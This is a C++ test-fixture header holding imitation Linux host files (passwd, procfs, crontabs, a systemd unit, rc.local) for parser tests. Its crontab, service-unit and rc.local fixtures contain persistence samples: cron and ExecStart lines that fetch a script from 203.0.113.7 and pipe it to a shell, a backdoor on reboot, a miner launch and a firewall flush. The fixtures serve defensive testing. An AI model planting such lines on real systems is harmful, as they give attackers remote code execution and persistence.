// Hand-written fixture texts for the host-facts parser tests and the truncation sweep. They
// imitate real files (Debian 12 layouts, x86-64 procfs) and hold no real personal data; the
// addresses are documentation ranges (RFC 5737, RFC 3849). Constants only; thread-safe.
#pragma once

#include <array>
#include <string_view>

namespace beffroi::host::facts::testing {

// 5 accounts; 3 lines that do not parse (NIS compat, non-numeric uid, too few fields).
inline constexpr std::string_view kPasswd =
    "# local accounts\n"
    "root:x:0:0:root:/root:/bin/bash\n"
    "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
    "alice:x:1000:1000:Alice Martin,Room 12,555-0100,,:/home/alice:/bin/bash\n"
    "bob:x:1001:1001::/home/bob:/bin/false\n"
    "+nisuser::::::\n"
    "broken:x:abc:1000::/home/broken:/bin/sh\n"
    "short:x:1002\n"
    "\n"
    "svc:x:998:998:Service account:/var/lib/svc:\n";

// 6 groups; "bad" has a non-numeric gid. alice is in adm and sudo, bob in sudo (with a blank
// after the comma), and gid 10 (wheel) is nobody's primary group.
inline constexpr std::string_view kGroup =
    "root:x:0:\n"
    "adm:x:4:syslog,alice\n"
    "sudo:x:27:alice, bob\n"
    "wheel:x:10:\n"
    "alice:x:1000:\n"
    "bob:x:1001:\n"
    "bad:x:notanumber:\n";

// Ubuntu-style os-release, plus the quoting forms os-release(5) allows and two bad lines.
inline constexpr std::string_view kOsRelease =
    "PRETTY_NAME=\"Ubuntu 22.04.4 LTS\"\n"
    "NAME=\"Ubuntu\"\n"
    "VERSION_ID=\"22.04\"\n"
    "VERSION=\"22.04.4 LTS (Jammy Jellyfish)\"\n"
    "ID=ubuntu\n"
    "ID_LIKE=debian\n"
    "# a comment\n"
    "QUOTED=\"say \\\"hi\\\" \\$HOME\"\n"
    "SINGLE='single \\ kept'\n"
    "BAD=\"unterminated\n"
    "no equals sign\n";

// /proc/PID/stat of a process that named itself "my (evil) prog": comm holds a space and ')'.
// Fields after comm: state S, ppid 1, ..., starttime (field 22) 98765.
inline constexpr std::string_view kProcStat =
    "1234 (my (evil) prog) S 1 1234 1234 0 -1 4194560 100 0 0 0 5 3 0 0 20 0 1 0 98765 "
    "12345678 300 18446744073709551615 1 1 0 0 0 0 0 0 0 0 0 0 17 0 0 0 0 0 0\n";

inline constexpr std::string_view kProcStatus =
    "Name:\tsshd\n"
    "Umask:\t0022\n"
    "State:\tS (sleeping)\n"
    "Pid:\t612\n"
    "PPid:\t1\n"
    "Uid:\t1000\t0\t0\t0\n"
    "Gid:\t1000\t1000\t1000\t1000\n";

inline constexpr std::string_view kProcStatFile =
    "cpu  10132153 290696 3084719 46828483 16683 0 25195 0 0 0\n"
    "cpu0 1393280 32966 572056 13343292 6130 0 17875 0 0 0\n"
    "intr 199292 0 9 0 0 0\n"
    "ctxt 3804957\n"
    "btime 1700000000\n"
    "processes 12345\n";

inline constexpr std::string_view kProcUptime = "3600.52 7100.10\n";

// /proc/net/tcp on x86-64: 127.0.0.1:53 and 0.0.0.0:22 listening, 10.0.2.15:22 connected to
// 10.0.2.2:50000, one garbage line.
inline constexpr std::string_view kProcNetTcp =
    "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout "
    "inode\n"
    "   0: 0100007F:0035 00000000:0000 0A 00000000:00000000 00:00000000 00000000   101        0 "
    "20001 1 0000000000000000 100 0 0 10 0\n"
    "   1: 00000000:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 "
    "20002 1 0000000000000000 100 0 0 10 0\n"
    "   2: 0F02000A:0016 0202000A:C350 01 00000000:00000000 02:000A7B1B 00000000     0        0 "
    "20003 4 0000000000000000 20 4 31 10 -1\n"
    "   3: garbage\n";

// /proc/net/tcp6: [::1]:631, [::]:8080, [::ffff:127.0.0.1]:80 listening, [2001:db8::1]:443
// connected to [2001:db8::2]:50001.
inline constexpr std::string_view kProcNetTcp6 =
    "  sl  local_address                         remote_address                        st "
    "tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
    "   0: 00000000000000000000000001000000:0277 00000000000000000000000000000000:0000 0A "
    "00000000:00000000 00:00000000 00000000     0        0 20004 1 0000000000000000 100 0 0 10 0\n"
    "   1: 00000000000000000000000000000000:1F90 00000000000000000000000000000000:0000 0A "
    "00000000:00000000 00:00000000 00000000  1000        0 20005 1 0000000000000000 100 0 0 10 0\n"
    "   2: 0000000000000000FFFF00000100007F:0050 00000000000000000000000000000000:0000 0A "
    "00000000:00000000 00:00000000 00000000    33        0 20008 1 0000000000000000 100 0 0 10 0\n"
    "   3: B80D0120000000000000000001000000:01BB B80D0120000000000000000002000000:C351 01 "
    "00000000:00000000 00:00000000 00000000    33        0 20009 1 0000000000000000 20 4 0 10 -1\n";

// /proc/net/udp: 127.0.0.53:53 and 0.0.0.0:68 bound, 10.0.2.15:54321 connected to 8.8.8.8:53.
inline constexpr std::string_view kProcNetUdp =
    "   sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  "
    "timeout inode ref pointer drops\n"
    "  300: 3500007F:0035 00000000:0000 07 00000000:00000000 00:00000000 00000000   101        "
    "0 20006 2 0000000000000000 0\n"
    "  301: 00000000:0044 00000000:0000 07 00000000:00000000 00:00000000 00000000     0        "
    "0 20007 2 0000000000000000 0\n"
    "  302: 0F02000A:D431 08080808:0035 01 00000000:00000000 00:00000000 00000000  1000        "
    "0 20010 2 0000000000000000 0\n";

// /etc/crontab: 5 jobs; 3 bad lines (unknown nickname, no user and command, no user).
inline constexpr std::string_view kSystemCrontab =
    "# /etc/crontab: system-wide crontab\n"
    "SHELL=/bin/sh\n"
    "PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n"
    "MAILTO = \"\"\n"
    "\n"
    "17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n"
    "25 6\t* * *\troot\ttest -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily "
    ")\n"
    "@reboot root /opt/.x/backdoor --daemon\n"
    "  */5 * * * * www-data curl -s http://203.0.113.7/p.sh | sh\r\n"
    "0 0 * jan-mar mon-fri root /usr/local/bin/weekday\n"
    "@every5 root /bin/true\n"
    "15 3 * * *\n"
    "* * * root missingfield\n";

// /var/spool/cron/crontabs/alice: 2 jobs, 1 bad line.
inline constexpr std::string_view kUserCrontab =
    "# m h  dom mon dow   command\n"
    "MAILTO=alice@example.org\n"
    "*/10 * * * * /home/alice/bin/sync.sh >/dev/null 2>&1\n"
    "@daily /usr/bin/python3 -c 'import os; os.system(\"id\")'\n"
    "not a cron line\n";

// A malicious-looking service: a continued ExecStart, an ExecStartPre with the "-" prefix, an
// Exec* outside [Service] that must be ignored, and one line that is not an assignment.
inline constexpr std::string_view kServiceUnit =
    "# /etc/systemd/system/evil.service\n"
    "[Unit]\n"
    "Description=Totally legit updater\n"
    "After=network-online.target\n"
    "\n"
    "[Service]\n"
    "Type=simple\n"
    "User = nobody\n"
    "ExecStartPre=-/bin/mkdir -p /tmp/.cache\n"
    "ExecStart=/usr/bin/env bash -c\\\n"
    "    'curl -s http://203.0.113.7/x | bash'\n"
    "ExecStop=/bin/kill $MAINPID\n"
    "; a semicolon comment\n"
    "Restart=always\n"
    "this line has no equals sign\n"
    "\n"
    "[Install]\n"
    "WantedBy=multi-user.target\n"
    "ExecStart=/not/in/service/section\n";

inline constexpr std::string_view kTimerUnit =
    "[Unit]\n"
    "Description=Daily backup\n"
    "\n"
    "[Timer]\n"
    "OnCalendar=*-*-* 03:00:00\n"
    "OnBootSec=15min\n"
    "Persistent=true\n"
    "\n"
    "[Install]\n"
    "WantedBy=timers.target\n";

inline constexpr std::string_view kRcLocal =
    "#!/bin/sh -e\n"
    "#\n"
    "# rc.local\n"
    "/usr/local/bin/start-miner &\n"
    "  iptables -F  \n"
    "exit 0\n";

inline constexpr std::array<std::string_view, 15> kAllFixtures = {
    kPasswd,        kGroup,       kOsRelease,   kProcStat,    kProcStatus,
    kProcStatFile,  kProcUptime,  kProcNetTcp,  kProcNetTcp6, kProcNetUdp,
    kSystemCrontab, kUserCrontab, kServiceUnit, kTimerUnit,   kRcLocal};

}  // namespace beffroi::host::facts::testing
